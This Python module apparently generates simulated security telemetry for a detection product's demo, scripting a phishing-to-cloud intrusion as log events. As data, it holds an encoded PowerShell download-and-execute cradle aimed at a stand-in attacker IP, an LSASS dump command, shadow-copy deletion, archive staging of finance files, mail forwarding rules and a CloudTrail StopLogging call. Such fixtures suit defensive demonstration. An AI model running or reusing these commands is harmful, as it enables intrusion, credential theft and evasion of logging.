"""The attack of the demo, step by step: a mail opens a laptop, the laptop a server, a stolen session the cloud.

`generate` weaves it into the noise; each step is what the products involved would have logged of it.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime, timedelta

from vedette.app.demo import cloud, mail, windows
from vedette.app.demo.company import Company, guid
from vedette.app.demo.streams import Item, Stream

ATTACKER_IP = "203.0.113.77"
ATTACKER_DOMAIN = "norvik-invoices.example"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16"
_POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
_CRADLE = (
    "SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8A"
    "YQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4ANwA3AC8AYQAnACkA"
)


def story(company: Company, start: datetime) -> Iterator[Item]:
    """The whole attack in order of time, beginning at `start` (UTC) and lasting about four hours."""
    yield from _initial_access(company, start)
    yield from _account_takeover(company, start + timedelta(minutes=29))
    yield from _credentials(company, start + timedelta(minutes=78))
    yield from _lateral_movement(company, start + timedelta(minutes=123))
    yield from _cloud(company, start + timedelta(minutes=188))


def _initial_access(company: Company, at: datetime) -> Iterator[Item]:
    victim = company.people[0]
    body = (
        f"Dear {victim.name.split()[0]},\n\ninvoice 48213 is overdue. Open the attached document and enable its "
        f"content, or sign in at https://login.{ATTACKER_DOMAIN}/norvik/session?id=48213 to view it.\n\n"
        "Accounts payable\n"
    )
    lure = mail.message(
        at,
        f"billing@{ATTACKER_DOMAIN}",
        "Norvik Accounts Payable",
        victim,
        "Overdue invoice 48213 - action required today",
        body,
        ip=ATTACKER_IP,
        passed=False,
        attachment=("Invoice_48213.docm", b"PK\x03\x04 a harmless stand-in for a macro document"),
    )
    yield Item(Stream.MAIL, at, lure)
    user = windows.account(victim)
    outlook = windows.Process(
        victim.laptop, f"{_OFFICE}\\OUTLOOK.EXE", f'"{_OFFICE}\\OUTLOOK.EXE"', user, 5120, at - timedelta(hours=1)
    )
    at += timedelta(minutes=7)
    document = (
        f"C:\\Users\\{victim.alias}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Invoice_48213.docm"
    )
    yield Item(Stream.SYSMON, at, windows.file_created(outlook, at, document))
    at += timedelta(seconds=4)
    command = f'"{_OFFICE}\\WINWORD.EXE" /n "{document}" /o ""'
    word = windows.Process(victim.laptop, f"{_OFFICE}\\WINWORD.EXE", command, user, 6644, at, outlook)
    yield Item(Stream.SYSMON, at, windows.process_created(word))
    at += timedelta(seconds=21)
    command = f"powershell.exe -NoP -W Hidden -enc {_CRADLE}"
    shell = windows.Process(victim.laptop, _POWERSHELL, command, user, 7012, at, word)
    yield Item(Stream.SYSMON, at, windows.process_created(shell))
    at += timedelta(seconds=2)
    yield Item(Stream.SYSMON, at, windows.connected(shell, at, victim.laptop_ip, ATTACKER_IP, 80))
    dropped = f"C:\\Users\\{victim.alias}\\AppData\\Roaming\\Updater\\nvupd.exe"
    at += timedelta(seconds=3)
    yield Item(Stream.SYSMON, at, windows.file_created(shell, at, dropped))
    at += timedelta(seconds=1)
    run_key = f"HKU\\{victim.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\NvUpdate"
    yield Item(Stream.SYSMON, at, windows.registry_set(shell, at, run_key, dropped))


def _account_takeover(company: Company, at: datetime) -> Iterator[Item]:
    victim = company.people[0]
    sign_in = cloud.signed_in(at, victim, ATTACKER_IP, "NG", "Office 365 Exchange Online", risk="high")
    yield Item(Stream.SIGN_IN, at, sign_in)
    at += timedelta(minutes=2)
    target = {"id": victim.object_id, "type": "User", "userPrincipalName": victim.upn, "displayName": victim.name}
    method = cloud.directory_audit(
        at, victim, ATTACKER_IP, "User registered security info", "UserManagement", target | {"modifiedProperties": []}
    )
    yield Item(Stream.AUDIT, at, method)
    at += timedelta(minutes=11)
    hide = {"SubjectOrBodyContainsWords": "invoice;payment;fraud", "DeleteMessage": "True", "MarkAsRead": "True"}
    yield Item(Stream.OFFICE, at, cloud.inbox_rule(at, victim, ATTACKER_IP, ".", hide))
    at += timedelta(minutes=1)
    forward = {"ForwardTo": f"archive@{ATTACKER_DOMAIN}", "SubjectContainsWords": "bank;account;wire"}
    yield Item(Stream.OFFICE, at, cloud.inbox_rule(at, victim, ATTACKER_IP, "..", forward))


def _credentials(company: Company, at: datetime) -> Iterator[Item]:
    victim = company.people[0]
    implant = windows.Process(
        victim.laptop,
        f"C:\\Users\\{victim.alias}\\AppData\\Roaming\\Updater\\nvupd.exe",
        "nvupd.exe -s",
        windows.account(victim),
        8220,
        at - timedelta(minutes=60),
    )
    commands = (
        ("C:\\Windows\\System32\\whoami.exe", "whoami /all"),
        ("C:\\Windows\\System32\\net.exe", 'net group "Domain Admins" /domain'),
        ("C:\\Windows\\System32\\nltest.exe", "nltest /domain_trusts /all_trusts"),
        (
            "C:\\Windows\\System32\\rundll32.exe",
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\d.bin full",
        ),
    )
    child = implant
    for number, (image, command) in enumerate(commands):
        at += timedelta(seconds=40)
        child = windows.Process(victim.laptop, image, command, implant.user, 9000 + 4 * number, at, implant)
        yield Item(Stream.SYSMON, at, windows.process_created(child, integrity="High"))
    at += timedelta(seconds=1)
    yield Item(Stream.SYSMON, at, windows.process_accessed(child, at, "C:\\Windows\\System32\\lsass.exe", "0x1fffff"))
    yield Item(Stream.SYSMON, at, windows.file_created(child, at, "C:\\ProgramData\\d.bin"))


def _lateral_movement(company: Company, at: datetime) -> Iterator[Item]:
    victim, admin = company.people[:2]
    server = "NV-FS-01"
    yield Item(Stream.SECURITY, at, windows.logged_on(at, server, admin, victim.laptop_ip, 3))
    at += timedelta(seconds=3)
    service = windows.service_installed(at, server, "nvupdsvc", "%SystemRoot%\\nvupdsvc.exe", admin)
    yield Item(Stream.SECURITY, at, service)
    at += timedelta(seconds=2)
    agent = windows.Process(
        server, "C:\\Windows\\nvupdsvc.exe", "C:\\Windows\\nvupdsvc.exe", "NT AUTHORITY\\SYSTEM", 3312, at
    )
    yield Item(Stream.SYSMON, at, windows.process_created(agent, integrity="System"))
    steps = (
        ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c vssadmin list shadows"),
        ("C:\\ProgramData\\rar.exe", "rar.exe a -r -hpK9v -m5 C:\\ProgramData\\fin.rar D:\\Shares\\Finance"),
        ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin delete shadows /all /quiet"),
    )
    for number, (image, command) in enumerate(steps):
        at += timedelta(minutes=6)
        child = windows.Process(server, image, command, windows.account(admin), 4000 + 4 * number, at, agent)
        yield Item(Stream.SYSMON, at, windows.process_created(child, integrity="High"))


def _cloud(company: Company, at: datetime) -> Iterator[Item]:
    victim, admin = company.people[:2]
    for number in range(120):
        moment = at + timedelta(seconds=4 * number)
        name = f"invoice-run-{number:03d}.xlsx"
        event = cloud.file_operation(moment, victim, ATTACKER_IP, "FileDownloaded", "Finance", name)
        yield Item(Stream.OFFICE, moment, event)
    at += timedelta(minutes=14)
    yield Item(Stream.SIGN_IN, at, cloud.signed_in(at, admin, ATTACKER_IP, "NG", "Azure Portal", risk="high"))
    at += timedelta(minutes=3)
    target = {
        "id": guid("app", "FleetSync"),
        "type": "ServicePrincipal",
        "displayName": "FleetSync",
        "modifiedProperties": [
            {"displayName": "KeyDescription", "oldValue": "[]", "newValue": '["[KeyType=Password]"]'}
        ],
    }
    operation = "Add service principal credentials"
    credentials = cloud.directory_audit(at, admin, ATTACKER_IP, operation, "ApplicationManagement", target)
    yield Item(Stream.AUDIT, at, credentials)
    at += timedelta(minutes=6)
    request = {"userName": "fleet-backup"}
    yield Item(Stream.AWS, at, cloud.aws(at, admin, ATTACKER_IP, "iam", "CreateAccessKey", request))
    at += timedelta(minutes=1)
    request = {"name": "arn:aws:cloudtrail:eu-north-1:481516234299:trail/main"}
    yield Item(Stream.AWS, at, cloud.aws(at, admin, ATTACKER_IP, "cloudtrail", "StopLogging", request))
